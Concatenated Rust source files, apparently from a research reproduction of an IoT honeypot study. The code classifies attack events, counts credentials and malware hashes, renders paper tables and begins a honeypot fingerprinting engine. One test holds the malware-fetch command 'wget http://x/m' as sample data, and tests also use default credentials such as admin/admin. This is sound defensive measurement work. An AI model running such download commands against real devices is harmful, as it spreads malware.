        assert!(ds.events[0].time < ds.events[1].time);
        assert_eq!(ds.sources().len(), 2);
    }

    #[test]
    fn scanning_service_by_rdns() {
        let mut rdns = ReverseDns::new();
        register_service_rdns(&mut rdns, "9.9.9.9".parse().unwrap(), "Shodan");
        let ds = AttackDataset::merge(vec![vec![event(
            "9.9.9.9",
            "Cowrie",
            1,
            EventKind::Connection,
        )]]);
        assert_eq!(
            ds.classify_source(&rdns, "Cowrie", "9.9.9.9".parse().unwrap()),
            SourceClass::ScanningService
        );
    }

    #[test]
    fn malicious_by_behaviour_unknown_otherwise() {
        let rdns = ReverseDns::new();
        let ds = AttackDataset::merge(vec![vec![
            event("3.3.3.3", "Cowrie", 1, EventKind::Connection),
            event(
                "3.3.3.3",
                "Cowrie",
                2,
                EventKind::LoginAttempt {
                    username: "admin".into(),
                    password: "admin".into(),
                    success: false,
                },
            ),
            event("4.4.4.4", "Cowrie", 3, EventKind::Connection),
        ]]);
        assert_eq!(
            ds.classify_source(&rdns, "Cowrie", "3.3.3.3".parse().unwrap()),
            SourceClass::Malicious
        );
        assert_eq!(
            ds.classify_source(&rdns, "Cowrie", "4.4.4.4".parse().unwrap()),
            SourceClass::Unknown
        );
    }

    #[test]
    fn flood_detected_by_rate() {
        let mut events = Vec::new();
        for i in 0..40u64 {
            events.push(event(
                "5.5.5.5",
                "U-Pot",
                1_000 + i * 100, // all within one minute
                EventKind::Datagram { len: 64 },
            ));
        }
        let ds = AttackDataset::merge(vec![events]);
        assert_eq!(ds.dos_source_count(), 1);
        assert_eq!(ds.attack_type(&ds.events[0]), AttackType::Dos);
        // Slow drip from another source is scanning, not DoS.
        let slow: Vec<AttackEvent> = (0..10u64)
            .map(|i| event("6.6.6.6", "U-Pot", i * 120_000, EventKind::Datagram { len: 64 }))
            .collect();
        let ds2 = AttackDataset::merge(vec![slow]);
        assert_eq!(ds2.attack_type(&ds2.events[0]), AttackType::Scanning);
    }

    #[test]
    fn attack_typing() {
        let ds = AttackDataset::merge(vec![]);
        let cases: Vec<(EventKind, AttackType)> = vec![
            (
                EventKind::LoginAttempt {
                    username: "a".into(),
                    password: "b".into(),
                    success: false,
                },
                AttackType::BruteForce,
            ),
            (
                EventKind::PayloadDrop { payload: vec![1], url: None },
                AttackType::MalwareDeployment,
            ),
            (
                EventKind::Command { line: "wget http://x/m".into() },
                AttackType::MalwareDeployment,
            ),
            (EventKind::DataWrite { target: "t".into() }, AttackType::DataPoisoning),
            (
                EventKind::ExploitSignature { name: "x".into() },
                AttackType::Exploit,
            ),
            (EventKind::HttpRequest { path: "/".into() }, AttackType::Scraping),
            (EventKind::Discovery, AttackType::Scanning),
        ];
        for (kind, expect) in cases {
            let e = event("8.8.8.8", "HosTaGe", 0, kind);
            assert_eq!(ds.attack_type(&e), expect);
        }
    }
}
