//! Table 7 — attack events by honeypot and protocol, with per-honeypot
//! unique-source classification.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_honeypots::HoneypotKind;
use ofh_intel::ReverseDns;
use ofh_wire::Protocol;
use serde::Serialize;

use crate::events::{AttackDataset, SourceClass};
use crate::render::{thousands, Table};

/// Per-(honeypot, protocol) event counts.
#[derive(Debug, Clone, Serialize)]
pub struct Table7Row {
    pub honeypot: &'static str,
    pub protocol: Protocol,
    pub events: u64,
}

/// Per-honeypot unique source splits (the starred columns).
#[derive(Debug, Clone, Serialize)]
pub struct Table7Sources {
    pub honeypot: &'static str,
    pub scanning: usize,
    pub malicious: usize,
    pub unknown: usize,
}

/// The computed Table 7.
#[derive(Debug, Clone, Serialize)]
pub struct Table7 {
    pub rows: Vec<Table7Row>,
    pub sources: Vec<Table7Sources>,
    pub total_events: u64,
}

impl Table7 {
    pub fn compute(dataset: &AttackDataset, rdns: &ReverseDns) -> Table7 {
        let mut counts: BTreeMap<(&'static str, Protocol), u64> = BTreeMap::new();
        let mut srcs: BTreeMap<&'static str, BTreeSet<Ipv4Addr>> = BTreeMap::new();
        for e in &dataset.events {
            *counts.entry((e.honeypot, e.protocol)).or_insert(0) += 1;
            srcs.entry(e.honeypot).or_default().insert(e.src);
        }
        let rows: Vec<Table7Row> = HoneypotKind::ALL
            .iter()
            .flat_map(|hp| {
                let name = hp.name();
                counts
                    .iter()
                    .filter(move |((h, _), _)| *h == name)
                    .map(|(&(h, p), &n)| Table7Row {
                        honeypot: h,
                        protocol: p,
                        events: n,
                    })
                    .collect::<Vec<_>>()
            })
            .collect();
        let sources: Vec<Table7Sources> = HoneypotKind::ALL
            .iter()
            .map(|hp| {
                let name = hp.name();
                let mut out = Table7Sources {
                    honeypot: name,
                    scanning: 0,
                    malicious: 0,
                    unknown: 0,
                };
                if let Some(set) = srcs.get(name) {
                    for &src in set {
                        match dataset.classify_source(rdns, name, src) {
                            SourceClass::ScanningService => out.scanning += 1,
                            SourceClass::Malicious => out.malicious += 1,
                            SourceClass::Unknown => out.unknown += 1,
                        }
                    }
                }
                out
            })
            .collect();
        let total_events = rows.iter().map(|r| r.events).sum();
        Table7 {
            rows,
            sources,
            total_events,
        }
    }

    pub fn events_of(&self, honeypot: &str, protocol: Protocol) -> u64 {
        self.rows
            .iter()
            .find(|r| r.honeypot == honeypot && r.protocol == protocol)
            .map(|r| r.events)
            .unwrap_or(0)
    }

    pub fn sources_of(&self, honeypot: &str) -> &Table7Sources {
        self.sources
            .iter()
            .find(|s| s.honeypot == honeypot)
            .expect("all honeypots present")
    }

    /// Paper volume for a row, when Table 7 has one.
    pub fn paper_events(honeypot: &str, protocol: Protocol) -> Option<u64> {
        ofh_attack::plan::TABLE7_VOLUMES
            .iter()
            .find(|&&(h, p, _)| h == honeypot && p == protocol)
            .map(|&(_, _, v)| v)
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Table 7: Total attack events by type and protocol on honeypots",
            &["Honeypot", "Protocol", "#Attack events", "Paper"],
        );
        for r in &self.rows {
            t.row(&[
                r.honeypot.into(),
                r.protocol.name().into(),
                thousands(r.events),
                Self::paper_events(r.honeypot, r.protocol)
                    .map(thousands)
                    .unwrap_or_else(|| "-".into()),
            ]);
        }
        t.row(&[
            "Total".into(),
            "".into(),
            thousands(self.total_events),
            thousands(200_209),
        ]);
        let mut s = t.render();
        let mut t2 = Table::new(
            "Table 7 (cont.): unique source IPs per honeypot",
            &["Honeypot", "Scanning service*", "Malicious*", "Unknown/Suspicious*"],
        );
        for src in &self.sources {
            t2.row(&[
                src.honeypot.into(),
                thousands(src.scanning as u64),
                thousands(src.malicious as u64),
                thousands(src.unknown as u64),
            ]);
        }
        s.push_str(&t2.render());
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::register_service_rdns;
    use ofh_honeypots::{AttackEvent, EventKind};
    use ofh_net::SimTime;

    fn ev(src: u32, honeypot: &'static str, proto: Protocol, kind: EventKind) -> AttackEvent {
        AttackEvent {
            time: SimTime(src as u64),
            honeypot,
            protocol: proto,
            src: Ipv4Addr::from(src),
            src_port: 1,
            kind,
        }
    }

    #[test]
    fn counts_rows_and_sources() {
        let mut rdns = ReverseDns::new();
        register_service_rdns(&mut rdns, Ipv4Addr::from(100u32), "Shodan");
        let ds = AttackDataset::merge(vec![vec![
            ev(100, "Cowrie", Protocol::Telnet, EventKind::Connection),
            ev(200, "Cowrie", Protocol::Telnet, EventKind::Connection),
            ev(
                200,
                "Cowrie",
                Protocol::Telnet,
                EventKind::LoginAttempt {
                    username: "a".into(),
                    password: "b".into(),
                    success: false,
                },
            ),
            ev(300, "Cowrie", Protocol::Ssh, EventKind::Connection),
            ev(400, "U-Pot", Protocol::Upnp, EventKind::Discovery),
        ]]);
        let t7 = Table7::compute(&ds, &rdns);
        assert_eq!(t7.events_of("Cowrie", Protocol::Telnet), 3);
        assert_eq!(t7.events_of("Cowrie", Protocol::Ssh), 1);
        assert_eq!(t7.events_of("U-Pot", Protocol::Upnp), 1);
        assert_eq!(t7.total_events, 5);
        let cowrie = t7.sources_of("Cowrie");
        assert_eq!(cowrie.scanning, 1); // .100 via rDNS
        assert_eq!(cowrie.malicious, 1); // .200 brute-forced
        assert_eq!(cowrie.unknown, 1); // .300 one-off
    }

    #[test]
    fn paper_rows_resolve() {
        assert_eq!(Table7::paper_events("HosTaGe", Protocol::Telnet), Some(19_733));
        assert_eq!(Table7::paper_events("U-Pot", Protocol::Upnp), Some(17_101));
        assert_eq!(Table7::paper_events("U-Pot", Protocol::Telnet), None);
    }
}
