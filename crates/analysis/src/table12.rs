//! Table 12 — top Telnet and SSH credentials used by adversaries, from the
//! honeypots' login logs.

use std::collections::BTreeMap;

use ofh_honeypots::EventKind;
use ofh_wire::Protocol;
use serde::Serialize;

use crate::events::AttackDataset;
use crate::render::{thousands, Table};

/// The computed Table 12.
#[derive(Debug, Clone, Serialize)]
pub struct Table12 {
    /// (protocol, username, password, count), per-protocol descending.
    pub rows: Vec<(Protocol, String, String, u64)>,
}

impl Table12 {
    pub fn compute(dataset: &AttackDataset, top_n: usize) -> Table12 {
        let mut counts: BTreeMap<(Protocol, String, String), u64> = BTreeMap::new();
        for e in &dataset.events {
            if let EventKind::LoginAttempt {
                username, password, ..
            } = &e.kind
            {
                if e.protocol == Protocol::Telnet || e.protocol == Protocol::Ssh {
                    *counts
                        .entry((e.protocol, username.clone(), password.clone()))
                        .or_insert(0) += 1;
                }
            }
        }
        let mut rows = Vec::new();
        for proto in [Protocol::Telnet, Protocol::Ssh] {
            let mut per: Vec<(Protocol, String, String, u64)> = counts
                .iter()
                .filter(|((p, _, _), _)| *p == proto)
                .map(|((p, u, pw), &n)| (*p, u.clone(), pw.clone(), n))
                .collect();
            per.sort_by(|a, b| b.3.cmp(&a.3).then(a.1.cmp(&b.1)));
            per.truncate(top_n);
            rows.extend(per);
        }
        Table12 { rows }
    }

    /// The most-used credential pair for a protocol.
    pub fn top_credential(&self, protocol: Protocol) -> Option<(&str, &str, u64)> {
        self.rows
            .iter()
            .find(|(p, _, _, _)| *p == protocol)
            .map(|(_, u, pw, n)| (u.as_str(), pw.as_str(), *n))
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Table 12: Top Telnet and SSH credentials used by adversaries",
            &["Protocol", "Credentials", "Count"],
        );
        for (p, u, pw, n) in &self.rows {
            let pw = if pw.is_empty() { "(blank)" } else { pw };
            t.row(&[p.name().into(), format!("{u},{pw}"), thousands(*n)]);
        }
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_honeypots::AttackEvent;
    use ofh_net::SimTime;

    fn login(proto: Protocol, user: &str, pass: &str) -> AttackEvent {
        AttackEvent {
            time: SimTime(0),
            honeypot: "Cowrie",
            protocol: proto,
            src: "1.1.1.1".parse().unwrap(),
            src_port: 1,
            kind: EventKind::LoginAttempt {
                username: user.into(),
                password: pass.into(),
                success: false,
            },
        }
    }

    #[test]
    fn counts_and_orders() {
        let mut events = Vec::new();
        for _ in 0..5 {
            events.push(login(Protocol::Telnet, "admin", "admin"));
        }
        for _ in 0..2 {
            events.push(login(Protocol::Telnet, "root", "root"));
        }
        events.push(login(Protocol::Ssh, "admin", "admin"));
        let ds = AttackDataset::merge(vec![events]);
        let t12 = Table12::compute(&ds, 10);
        assert_eq!(t12.top_credential(Protocol::Telnet), Some(("admin", "admin", 5)));
        assert_eq!(t12.top_credential(Protocol::Ssh), Some(("admin", "admin", 1)));
        // Telnet rows come before SSH rows and are internally sorted.
        let telnet_rows: Vec<u64> = t12
            .rows
            .iter()
            .filter(|(p, _, _, _)| *p == Protocol::Telnet)
            .map(|(_, _, _, n)| *n)
            .collect();
        assert_eq!(telnet_rows, vec![5, 2]);
    }
}
