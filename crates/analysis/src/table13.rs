//! Table 13 — SHA-256 hashes of captured malware, identified via the
//! VirusTotal-style hash lookup.

use std::collections::BTreeMap;

use ofh_honeypots::EventKind;
use ofh_intel::hex::to_hex;
use ofh_intel::{sha256, MalwareRegistry};
use serde::Serialize;

use crate::events::AttackDataset;
use crate::render::Table;

/// One identified sample.
#[derive(Debug, Clone, Serialize)]
pub struct Table13Row {
    pub sha256_hex: String,
    /// Family name from the registry, or "unknown binary" if the hash has
    /// never been catalogued.
    pub family: String,
    /// Distinct honeypot captures of this exact binary.
    pub captures: u64,
}

/// The computed Table 13.
#[derive(Debug, Clone, Serialize)]
pub struct Table13 {
    pub rows: Vec<Table13Row>,
}

impl Table13 {
    /// Hash every captured payload and identify it against the registry —
    /// "we check the file with VirusTotal" (§4.3.1).
    pub fn compute(dataset: &AttackDataset, registry: &MalwareRegistry) -> Table13 {
        let mut by_hash: BTreeMap<String, Table13Row> = BTreeMap::new();
        for e in &dataset.events {
            if let EventKind::PayloadDrop { payload, .. } = &e.kind {
                if payload.is_empty() {
                    continue;
                }
                let hash = to_hex(&sha256(payload));
                let entry = by_hash.entry(hash.clone()).or_insert_with(|| Table13Row {
                    sha256_hex: hash.clone(),
                    family: registry
                        .lookup_hash(&hash)
                        .map(|s| s.family.name().to_string())
                        .unwrap_or_else(|| "unknown binary".into()),
                    captures: 0,
                });
                entry.captures += 1;
            }
        }
        let mut rows: Vec<Table13Row> = by_hash.into_values().collect();
        rows.sort_by(|a, b| a.family.cmp(&b.family).then(a.sha256_hex.cmp(&b.sha256_hex)));
        Table13 { rows }
    }

    /// Distinct variants of a family captured.
    pub fn variants_of(&self, family: &str) -> usize {
        self.rows.iter().filter(|r| r.family == family).count()
    }

    pub fn distinct_samples(&self) -> usize {
        self.rows.len()
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Table 13: SHA256 of malware variants captured on honeypots",
            &["SHA256 Hash", "Malware Variant Type", "Captures"],
        );
        for r in &self.rows {
            t.row(&[r.sha256_hex.clone(), r.family.clone(), r.captures.to_string()]);
        }
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_honeypots::AttackEvent;
    use ofh_intel::{MalwareFamily, MalwareSample};
    use ofh_net::SimTime;
    use ofh_wire::Protocol;

    fn drop_event(payload: Vec<u8>) -> AttackEvent {
        AttackEvent {
            time: SimTime(0),
            honeypot: "Cowrie",
            protocol: Protocol::Telnet,
            src: "1.1.1.1".parse().unwrap(),
            src_port: 1,
            kind: EventKind::PayloadDrop { payload, url: None },
        }
    }

    #[test]
    fn hashes_and_identifies() {
        let reg = MalwareRegistry::standard(8);
        let mirai3 = MalwareSample::synthesize(MalwareFamily::Mirai, 3);
        let mirai5 = MalwareSample::synthesize(MalwareFamily::Mirai, 5);
        let ds = AttackDataset::merge(vec![vec![
            drop_event(mirai3.payload.clone()),
            drop_event(mirai3.payload.clone()),
            drop_event(mirai5.payload.clone()),
            drop_event(b"\x7fELFnot-in-registry".to_vec()),
            drop_event(vec![]), // URL-only drops are skipped
        ]]);
        let t13 = Table13::compute(&ds, &reg);
        assert_eq!(t13.variants_of("Mirai"), 2);
        assert_eq!(t13.variants_of("unknown binary"), 1);
        assert_eq!(t13.distinct_samples(), 3);
        let mirai3_row = t13
            .rows
            .iter()
            .find(|r| r.sha256_hex == mirai3.sha256_hex)
            .unwrap();
        assert_eq!(mirai3_row.captures, 2);
    }
}
