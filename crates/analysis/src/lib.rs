//! # ofh-analysis — dataset joins and report generation
//!
//! Takes the raw datasets the other crates produce — scan results, honeypot
//! event logs, telescope FlowTuples, threat-intelligence oracles — and
//! computes every table and figure of the paper's evaluation. Nothing here
//! touches generation ground truth: classifications are re-derived from
//! banners, reverse lookups, rates, and oracle queries, exactly as the
//! paper's pipeline derives them.
//!
//! | module | produces |
//! |---|---|
//! | [`events`]     | merged honeypot dataset, source classification, attack typing |
//! | [`table4`]     | exposed systems per protocol × source |
//! | [`table5`]     | misconfigured devices per class (post honeypot-filter) |
//! | [`table7`]     | attack events per honeypot/protocol + source splits |
//! | [`table10`]    | misconfigured devices by country |
//! | [`table12`]    | top credentials observed |
//! | [`table13`]    | SHA-256 of captured malware |
//! | [`figures`]    | Figs. 2, 3, 4, 5, 6, 7, 8, 9 data series |
//! | [`infected`]   | the §5.3 joins (11,118 / Censys / domains) |
//! | [`render`]     | ASCII table/figure rendering |

pub mod events;
pub mod figures;
pub mod infected;
pub mod render;
pub mod table10;
pub mod table12;
pub mod table13;
pub mod table4;
pub mod table5;
pub mod table7;

pub use events::{AttackDataset, AttackType, SourceClass};
pub use render::Table;
