//! ASCII table rendering for experiment reports.

/// A simple column-aligned table with a title, printed the way the
//  examples and EXPERIMENTS.md present paper-vs-measured rows.
#[derive(Debug, Clone)]
pub struct Table {
    pub title: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

impl Table {
    pub fn new(title: impl Into<String>, headers: &[&str]) -> Table {
        Table {
            title: title.into(),
            headers: headers.iter().map(|h| h.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    pub fn row(&mut self, cells: &[String]) -> &mut Self {
        assert_eq!(cells.len(), self.headers.len(), "row arity mismatch");
        self.rows.push(cells.to_vec());
        self
    }

    pub fn row_display(&mut self, cells: &[&dyn std::fmt::Display]) -> &mut Self {
        let cells: Vec<String> = cells.iter().map(|c| c.to_string()).collect();
        self.row(&cells)
    }

    pub fn render(&self) -> String {
        let mut widths: Vec<usize> = self.headers.iter().map(String::len).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                widths[i] = widths[i].max(cell.len());
            }
        }
        let sep: String = widths
            .iter()
            .map(|w| "-".repeat(w + 2))
            .collect::<Vec<_>>()
            .join("+");
        let fmt_row = |cells: &[String]| -> String {
            cells
                .iter()
                .enumerate()
                .map(|(i, c)| format!(" {c:<w$} ", w = widths[i]))
                .collect::<Vec<_>>()
                .join("|")
        };
        let mut out = format!("== {} ==\n", self.title);
        out.push_str(&fmt_row(&self.headers));
        out.push('\n');
        out.push_str(&sep);
        out.push('\n');
        for row in &self.rows {
            out.push_str(&fmt_row(row));
            out.push('\n');
        }
        out
    }
}

/// Format a count with thousands separators (paper style: `1,832,893`).
pub fn thousands(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Format a share as a percentage with one decimal.
pub fn percent(part: u64, whole: u64) -> String {
    if whole == 0 {
        "0.0%".into()
    } else {
        format!("{:.1}%", part as f64 * 100.0 / whole as f64)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_aligned() {
        let mut t = Table::new("Demo", &["Protocol", "Count"]);
        t.row(&["Telnet".into(), "7,096,465".into()]);
        t.row(&["MQTT".into(), "42".into()]);
        let s = t.render();
        assert!(s.starts_with("== Demo =="));
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 5);
        assert_eq!(lines[3].len(), lines[4].len());
    }

    #[test]
    fn thousands_formatting() {
        assert_eq!(thousands(0), "0");
        assert_eq!(thousands(999), "999");
        assert_eq!(thousands(1_000), "1,000");
        assert_eq!(thousands(1_832_893), "1,832,893");
    }

    #[test]
    fn percent_formatting() {
        assert_eq!(percent(27, 100), "27.0%");
        assert_eq!(percent(1, 3), "33.3%");
        assert_eq!(percent(5, 0), "0.0%");
    }

    #[test]
    #[should_panic(expected = "arity")]
    fn arity_checked() {
        let mut t = Table::new("x", &["a", "b"]);
        t.row(&["only-one".into()]);
    }
}
