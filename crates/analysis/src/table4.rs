//! Table 4 — exposed systems on the Internet by protocol and source.

use ofh_scan::ScanResults;
use ofh_wire::Protocol;
use serde::Serialize;

use crate::render::{thousands, Table};

/// The paper's Table 4 values for side-by-side comparison.
pub fn paper_value(protocol: Protocol, source: &str) -> Option<u64> {
    let v = match (protocol, source) {
        (Protocol::Amqp, "ZMap Scan") => 34_542,
        (Protocol::Xmpp, "ZMap Scan") => 423_867,
        (Protocol::Coap, "ZMap Scan") => 618_650,
        (Protocol::Upnp, "ZMap Scan") => 1_381_940,
        (Protocol::Mqtt, "ZMap Scan") => 4_842_465,
        (Protocol::Telnet, "ZMap Scan") => 7_096_465,
        (Protocol::Coap, "Project Sonar") => 438_098,
        (Protocol::Upnp, "Project Sonar") => 395_331,
        (Protocol::Mqtt, "Project Sonar") => 3_921_585,
        (Protocol::Telnet, "Project Sonar") => 6_004_956,
        (Protocol::Amqp, "Shodan") => 18_701,
        (Protocol::Xmpp, "Shodan") => 315_861,
        (Protocol::Coap, "Shodan") => 590_740,
        (Protocol::Upnp, "Shodan") => 433_571,
        (Protocol::Mqtt, "Shodan") => 162_216,
        (Protocol::Telnet, "Shodan") => 188_291,
        _ => return None,
    };
    Some(v)
}

/// One Table 4 row.
#[derive(Debug, Clone, Serialize)]
pub struct Table4Row {
    pub protocol: Protocol,
    pub zmap: u64,
    /// `None` = "NA" (Sonar has no AMQP/XMPP datasets).
    pub sonar: Option<u64>,
    pub shodan: u64,
}

/// The computed Table 4.
#[derive(Debug, Clone, Serialize)]
pub struct Table4 {
    pub rows: Vec<Table4Row>,
}

impl Table4 {
    pub fn compute(zmap: &ScanResults, sonar: &ScanResults, shodan: &ScanResults) -> Table4 {
        // Table 4 is ordered ascending by the ZMap column.
        let mut rows: Vec<Table4Row> = Protocol::SCANNED
            .iter()
            .map(|&p| Table4Row {
                protocol: p,
                zmap: zmap.exposed_hosts(p) as u64,
                sonar: if ofh_scan::datasets::sonar_coverage(p).is_some() {
                    Some(sonar.exposed_hosts(p) as u64)
                } else {
                    None
                },
                shodan: shodan.exposed_hosts(p) as u64,
            })
            .collect();
        rows.sort_by_key(|r| r.zmap);
        Table4 { rows }
    }

    pub fn total_zmap(&self) -> u64 {
        self.rows.iter().map(|r| r.zmap).sum()
    }

    pub fn row(&self, protocol: Protocol) -> &Table4Row {
        self.rows
            .iter()
            .find(|r| r.protocol == protocol)
            .expect("all scanned protocols present")
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Table 4: #Exposed systems on the Internet by protocol and source",
            &["Protocol", "ZMap Scan", "Project Sonar", "Shodan"],
        );
        for r in &self.rows {
            t.row(&[
                r.protocol.name().into(),
                thousands(r.zmap),
                r.sonar.map(thousands).unwrap_or_else(|| "NA".into()),
                thousands(r.shodan),
            ]);
        }
        t.row(&[
            "Total".into(),
            thousands(self.total_zmap()),
            thousands(self.rows.iter().filter_map(|r| r.sonar).sum()),
            thousands(self.rows.iter().map(|r| r.shodan).sum()),
        ]);
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_scan::HostRecord;

    fn results(source: &str, counts: &[(Protocol, usize)]) -> ScanResults {
        let mut rs = ScanResults::new(source);
        let mut next = 0x1000_0000u32;
        for &(proto, n) in counts {
            for _ in 0..n {
                rs.insert(HostRecord {
                    addr: std::net::Ipv4Addr::from(next),
                    port: proto.port(),
                    protocol: proto,
                    response: "x".into(),
                    raw: vec![],
                });
                next += 1;
            }
        }
        rs
    }

    #[test]
    fn computes_and_orders_rows() {
        let zmap = results(
            "ZMap Scan",
            &[(Protocol::Telnet, 70), (Protocol::Mqtt, 48), (Protocol::Amqp, 3)],
        );
        let sonar = results("Project Sonar", &[(Protocol::Telnet, 60)]);
        let shodan = results("Shodan", &[(Protocol::Telnet, 2)]);
        let t4 = Table4::compute(&zmap, &sonar, &shodan);
        assert_eq!(t4.rows.last().unwrap().protocol, Protocol::Telnet);
        assert_eq!(t4.row(Protocol::Telnet).zmap, 70);
        assert_eq!(t4.row(Protocol::Amqp).sonar, None);
        assert_eq!(t4.row(Protocol::Telnet).sonar, Some(60));
        let rendered = t4.render();
        assert!(rendered.contains("NA"));
        assert!(rendered.contains("Total"));
    }

    #[test]
    fn paper_values_present() {
        assert_eq!(paper_value(Protocol::Telnet, "ZMap Scan"), Some(7_096_465));
        assert_eq!(paper_value(Protocol::Amqp, "Project Sonar"), None);
    }
}
