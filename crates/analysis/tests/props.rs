//! Property tests for the analysis layer: totality and partition invariants
//! over arbitrary event streams.

use std::net::Ipv4Addr;

use ofh_analysis::events::{AttackDataset, SourceClass};
use ofh_analysis::figures::AttackTypeBreakdown;
use ofh_analysis::table7::Table7;
use ofh_honeypots::{AttackEvent, EventKind};
use ofh_intel::ReverseDns;
use ofh_net::SimTime;
use ofh_wire::Protocol;
use proptest::prelude::*;

fn arb_kind() -> impl Strategy<Value = EventKind> {
    prop_oneof![
        Just(EventKind::Connection),
        (1usize..2000).prop_map(|len| EventKind::Datagram { len }),
        Just(EventKind::Discovery),
        ("[a-z]{1,8}", "[a-z0-9!]{0,8}", any::<bool>()).prop_map(|(u, p, s)| {
            EventKind::LoginAttempt {
                username: u,
                password: p,
                success: s,
            }
        }),
        "[a-z ./:-]{1,24}".prop_map(|line| EventKind::Command { line }),
        prop::collection::vec(any::<u8>(), 0..32).prop_map(|payload| EventKind::PayloadDrop {
            payload,
            url: None,
        }),
        "[a-z/]{1,12}".prop_map(|t| EventKind::DataWrite { target: t }),
        "[a-z/]{1,12}".prop_map(|t| EventKind::DataRead { target: t }),
        "/[a-z/]{0,12}".prop_map(|p| EventKind::HttpRequest { path: p }),
        "[A-Za-z0-9 -]{1,16}".prop_map(|n| EventKind::ExploitSignature { name: n }),
    ]
}

fn arb_event() -> impl Strategy<Value = AttackEvent> {
    (
        0u64..2_000_000_000,
        prop::sample::select(vec!["HosTaGe", "U-Pot", "Conpot", "ThingPot", "Cowrie", "Dionaea"]),
        prop::sample::select(Protocol::ALL.to_vec()),
        any::<u32>(),
        any::<u16>(),
        arb_kind(),
    )
        .prop_map(|(t, honeypot, protocol, src, src_port, kind)| AttackEvent {
            time: SimTime(t),
            honeypot,
            protocol,
            src: Ipv4Addr::from(src),
            src_port,
            kind,
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Every event gets exactly one attack type, and the per-protocol
    /// breakdown partitions the dataset (cells sum to the event count).
    #[test]
    fn attack_typing_is_a_partition(events in prop::collection::vec(arb_event(), 0..300)) {
        let n = events.len() as u64;
        let ds = AttackDataset::merge(vec![events]);
        let breakdown = AttackTypeBreakdown::compute(&ds);
        let total: u64 = breakdown.cells.iter().map(|(_, _, _, c)| c).sum();
        prop_assert_eq!(total, n);
        // Per-protocol shares sum to 1 wherever a protocol has events.
        for p in Protocol::ALL {
            let per = breakdown.per_protocol(p);
            let sum: u64 = per.values().sum();
            if sum > 0 {
                let share_sum: f64 = per
                    .keys()
                    .map(|&ty| breakdown.share(p, ty))
                    .sum();
                prop_assert!((share_sum - 1.0).abs() < 1e-9);
            }
        }
    }

    /// Table 7's source classification partitions each honeypot's unique
    /// sources: scanning + malicious + unknown = distinct sources seen.
    #[test]
    fn table7_sources_partition(events in prop::collection::vec(arb_event(), 0..300)) {
        let ds = AttackDataset::merge(vec![events]);
        let rdns = ReverseDns::new();
        let t7 = Table7::compute(&ds, &rdns);
        for hp in ["HosTaGe", "U-Pot", "Conpot", "ThingPot", "Cowrie", "Dionaea"] {
            let distinct: std::collections::BTreeSet<Ipv4Addr> =
                ds.honeypot_events(hp).map(|e| e.src).collect();
            let s = t7.sources_of(hp);
            prop_assert_eq!(s.scanning + s.malicious + s.unknown, distinct.len(), "{}", hp);
        }
        // Row events also sum to the dataset size.
        let total: u64 = t7.rows.iter().map(|r| r.events).sum();
        prop_assert_eq!(total, ds.len() as u64);
    }

    /// Source classes are stable (same input, same class) and never
    /// scanning-service without an rDNS registration.
    #[test]
    fn classification_without_rdns_never_scanning(
        events in prop::collection::vec(arb_event(), 1..120),
    ) {
        let ds = AttackDataset::merge(vec![events]);
        let rdns = ReverseDns::new();
        for e in &ds.events {
            let c = ds.classify_source(&rdns, e.honeypot, e.src);
            prop_assert_ne!(c, SourceClass::ScanningService);
            prop_assert_eq!(c, ds.classify_source(&rdns, e.honeypot, e.src));
        }
    }
}
