//! The multistage fingerprinting engine.
//!
//! Stage 1 (passive) walks the scan results' raw banners through the
//! [`SignatureDb`]. Stage 2 (active) re-probes each candidate with two junk
//! lines: a low-interaction honeypot replays the same static output both
//! times, while a real device's shell reacts to the input (command echo,
//! error text). Only candidates that pass both stages are reported —
//! which is what keeps Table 6 free of false positives even though banners
//! are attacker-controllable strings.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::Ipv4Addr;

use ofh_honeypots::WildHoneypot;
use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SimDuration, SockAddr};
use ofh_scan::ScanResults;

use crate::signatures::SignatureDb;

/// One confirmed honeypot instance.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Detection {
    pub addr: Ipv4Addr,
    pub port: u16,
    pub family: WildHoneypot,
}

/// The end result of a fingerprint run.
#[derive(Debug, Clone, Default)]
pub struct FingerprintReport {
    pub detections: Vec<Detection>,
    /// Candidates that matched passively but failed the active check
    /// (banner coincidence on a real device).
    pub rejected: Vec<(Ipv4Addr, u16)>,
    /// Active-stage re-checks whose first connect or probe was cut short by
    /// the network (refused / timed out / reset) and was re-attempted.
    pub retries_issued: u64,
    /// Re-attempts that established — the re-check ran thanks to the retry.
    pub retries_recovered: u64,
}

impl FingerprintReport {
    /// Counts per family — Table 6's #Detected Instances column.
    pub fn counts(&self) -> BTreeMap<WildHoneypot, u64> {
        let mut map = BTreeMap::new();
        for d in &self.detections {
            *map.entry(d.family).or_insert(0u64) += 1;
        }
        map
    }

    /// The confirmed honeypot address set — what gets filtered out of the
    /// misconfigured-device results.
    pub fn filter_set(&self) -> BTreeSet<Ipv4Addr> {
        self.detections.iter().map(|d| d.addr).collect()
    }

    pub fn total(&self) -> usize {
        self.detections.len()
    }

    /// Fold another prober's report into this one (the sharded engine runs
    /// one prober per shard over disjoint candidate sets).
    pub fn absorb(&mut self, other: FingerprintReport) {
        self.detections.extend(other.detections);
        self.rejected.extend(other.rejected);
        self.retries_issued += other.retries_issued;
        self.retries_recovered += other.retries_recovered;
